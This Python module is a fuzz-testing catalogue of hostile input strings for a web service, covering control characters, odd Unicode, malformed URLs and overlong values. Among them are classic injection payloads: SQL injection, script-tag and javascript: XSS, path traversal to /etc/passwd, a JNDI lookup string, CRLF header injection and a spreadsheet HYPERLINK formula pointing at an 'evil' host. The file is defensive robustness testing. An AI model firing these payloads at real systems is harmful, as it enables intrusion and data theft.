"""The hostile string catalogue: values no form field, query, path or header should
ever turn into a server error.

Each value is text (sent as JSON escapes, as UTF-8 in forms, queries and headers,
percent-encoded in paths) or raw bytes (sent as they are: invalid UTF-8 spliced into
a JSON string, a form, a query, a header value or a path). `SHORT` is the slice
`make test` runs; `make fuzz` runs `CATALOGUE`.
"""

from dataclasses import dataclass

# Where a value is sent: a JSON or form body field, a CSV cell, a query or path
# parameter, a header value.
BODY, QUERY, PATH, HEADER = "body", "query", "path", "header"
EVERYWHERE = frozenset({BODY, QUERY, PATH, HEADER})
BODY_ONLY = frozenset({BODY})


@dataclass(frozen=True, slots=True)
class Hostile:
    name: str
    text: str | None = None
    raw: bytes | None = None
    # In the short run too.
    short: bool = False
    where: frozenset[str] = EVERYWHERE

    def encoded(self) -> bytes:
        """The octets of the value: UTF-8 (lone surrogates as their 3-byte forms)."""
        if self.raw is not None:
            return self.raw
        assert self.text is not None
        return self.text.encode("utf-8", "surrogatepass")

    def describe(self) -> str:
        shown = self.raw if self.raw is not None else self.text
        text = repr(shown)
        return f"{self.name}: {text[:80]}{'…' if len(text) > 80 else ''} ({len(shown or '')})"


def _text(
    name: str, text: str, *, short: bool = False, where: frozenset[str] = EVERYWHERE
) -> Hostile:
    return Hostile(name=name, text=text, short=short, where=where)


def _raw(
    name: str, raw: bytes, *, short: bool = False, where: frozenset[str] = EVERYWHERE
) -> Hostile:
    return Hostile(name=name, raw=raw, short=short, where=where)


def _fullwidth(text: str) -> str:
    """ASCII letters and punctuation as their fullwidth forms (U+FF01-U+FF5E)."""
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


_ALL_C0 = "".join(chr(code) for code in range(0x20))
_ALL_C1 = "".join(chr(code) for code in range(0x80, 0xA0))

CATALOGUE: tuple[Hostile, ...] = (
    # C0 / C1 controls, NUL, DEL.
    _text("nul", "\x00", short=True),
    _text("nul inside", "Ada\x00Lovelace"),
    _text("nul trailing", "https://www.linkedin.com/in/ada\x00"),
    _text("soh", "\x01"),
    _text("bel", "a\x07b"),
    _text("backspace", "ab\x08\x08"),
    _text("vertical tab", "a\x0bb"),
    _text("form feed", "a\x0cb"),
    _text("escape ansi", "\x1b[31mred\x1b[0m", short=True),
    _text("unit separator", "a\x1fb"),
    _text("every c0", _ALL_C0),
    _text("tab", "a\tb"),
    _text("line feed", "a\nb"),
    _text("crlf injection", "a\r\nX-Injected: 1\r\n\r\nbody", short=True),
    _text("carriage return", "a\rb"),
    _text("del", "a\x7fb"),
    _text("c1 pad", "\x80"),
    _text("c1 nel", "a\x85b"),
    _text("c1 csi", "\x9b31m"),
    _text("every c1", _ALL_C1),
    # Lone surrogates (JSON `\ud800`, or their UTF-8-like 3-byte forms elsewhere).
    _text("lone high surrogate", "\ud800", short=True),
    _text("lone low surrogate", "a\udfffb"),
    _text("reversed surrogate pair", "\udc00\ud800"),
    _text("surrogate in url", "https://www.linkedin.com/in/\ud83d"),
    # Brackets and URL syntax.
    _text("open bracket", "["),
    _text("close bracket", "]"),
    _text("brackets", "[[]]"),
    _text("unclosed ipv6 host", "http://[::1", short=True),
    _text("ipv6 loopback", "http://[::1]/"),
    _text("ipv6 with port", "https://[::1]:443/x"),
    _text("ipv6 zone", "https://[fe80::1%25eth0]/"),
    _text("ipvfuture", "http://[v1.fe]/"),
    _text("bracketed name", "https://[www.linkedin.com]/in/ada"),
    _text("bracket in path", "https://www.linkedin.com/in/[ada]", short=True),
    _text("space in host", "http://a b", short=True),
    _text("javascript url", "javascript:alert(1)", short=True),
    _text("javascript mixed case", "JaVaScRiPt:alert(document.cookie)"),
    _text("data url", "data:text/html,<script>alert(1)</script>"),
    _text("credentials", "https://user:pass@www.linkedin.com/in/ada"),
    _text("port too large", "https://www.linkedin.com:99999/in/ada"),
    _text("negative port", "http://example.com:-1/"),
    _text("empty host", "http:///x"),
    _text("scheme relative", "//evil.example/x"),
    _text("bare scheme", "https://"),
    _text("punycode empty", "http://xn--/"),
    _text("percent nul in host", "http://exa%00mple.com/"),
    _text("backslash host", "https:\\\\evil.example\\x"),
    _text("control in url host", "https://www.link\x01edin.com/in/ada"),
    _text("tab in url", "https://www.linkedin.com/in/a\tda"),
    _text("fullwidth url", _fullwidth("https://www.linkedin.com/in/ada")),
    _text("fullwidth solidus in host", "https://evil.example\uff0fwww.linkedin.com/"),
    _text("nfkc host", "https://\u24db\u24d8\u24dd\u24da\u24d4\u24d3\u24d8\u24dd.com/in/ada"),
    # Other syntax that interpreters trip on.
    _text("braces", "{}{{7*7}}${jndi:ldap://x}"),
    _text("format string", "%s%n%x%d"),
    _text("percent nul text", "%00", short=True),
    _text("lone percent", "%"),
    _text("bad percent", "%zz%f"),
    _text("dot segments", "../../../etc/passwd"),
    _text("encoded dot segments", "..%2f..%2fetc"),
    _text("slashes", "a/b/c"),
    _text("question and hash", "a?b=c#d"),
    _text("backslash", "\\"),
    _text("quotes", "'\"`"),
    _text("sql", "' OR 1=1 --"),
    _text("like wildcards", "%_%\\"),
    _text("html", "<script>alert(1)</script>"),
    _text("csv formula", '=HYPERLINK("http://evil","x")'),
    _text("semicolons and commas", "a;b,c;;"),
    _text("empty", ""),
    _text("spaces only", "   "),
    _text("json null text", "null"),
    _text("huge number text", "1e309"),
    _text("nan text", "NaN"),
    _text("escaped nul text", "\\u0000"),
    # Overlong values.
    _text("10k ascii", "a" * 10_000, short=True),
    _text("10k multibyte", "\u20ac" * 10_000),
    _text("10k url", "https://www.linkedin.com/in/" + "a" * 10_000),
    _text("5k astral", "\U0001f600" * 5_000),
    _text("100k ascii", "b" * 100_000, where=frozenset({BODY, QUERY, HEADER})),
    _text("1m ascii", "c" * 1_000_000, where=BODY_ONLY),
    _text("1m combining", "e" + "\u0301" * 300_000, where=BODY_ONLY),
    # Odd Unicode.
    _text("rtl override", "abc\u202edef\u202c", short=True),
    _text("rtl url", "https://www.linkedin.com/in/\u202eada"),
    _text("zero width space", "a\u200bb"),
    _text("zero width joiner only", "\u200d"),
    _text("word joiner", "\u2060"),
    _text("bom", "\ufeff", short=True),
    _text("bom prefix", "\ufeffAda"),
    _text("combining mark", "e\u0301"),
    _text("lone combining mark", "\u0301"),
    _text("zalgo", "a" + "\u0300\u0316\u0338" * 300),
    _text("fullwidth letters", _fullwidth("ADA") + "\u3000" + _fullwidth("LOVELACE")),
    # A family (joined by ZWJ) and a flag (two regional indicators).
    _text("emoji", "\U0001f469\u200d\U0001f469\u200d\U0001f467\U0001f1e9\U0001f1ea", short=True),
    _text("noncharacter ffff", "\uffff", short=True),
    _text("noncharacter fffe", "a\ufffeb"),
    _text("replacement char", "\ufffd"),
    _text("private use", "\ue000\uf8ff"),
    _text("supplementary private use", "\U000f0000\U0010ffff"),
    _text("line separator", "a\u2028b\u2029c"),
    _text("nbsp and ideographic space", "\u00a0\u3000"),
    _text("case mapping grows", "\u0130\u0130\u0130 \u00df \ufb01"),
    _text("kelvin sign", "\u212a"),
    _text("math alphanumerics", "\U0001d54f\U0001d586"),
    _text("hebrew arabic", "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627"),
    _text("cjk", "\u6f22\u5b57\u304b\u306a\u30ab\u30ca\ud55c\uae00"),
    _text("tag characters", "\U000e0041\U000e007f"),
    _text("variation selector", "a\ufe0f\U000e0100"),
    # Raw octets that are not UTF-8.
    _raw("invalid utf-8 ff", b"\xff", short=True),
    _raw("overlong nul", b"\xc0\x80"),
    _raw("utf-8 encoded surrogate", b"\xed\xa0\x80"),
    _raw("truncated sequence", b"\xe2\x82"),
    _raw("beyond u+10ffff", b"\xf4\x90\x80\x80"),
    _raw("latin-1 text", b"caf\xe9"),
    _raw("raw nul byte", b"a\x00b"),
)

SHORT: tuple[Hostile, ...] = tuple(value for value in CATALOGUE if value.short)


def _unique_names() -> None:
    names = [value.name for value in CATALOGUE]
    duplicates = {name for name in names if names.count(name) > 1}
    assert not duplicates, duplicates


_unique_names()
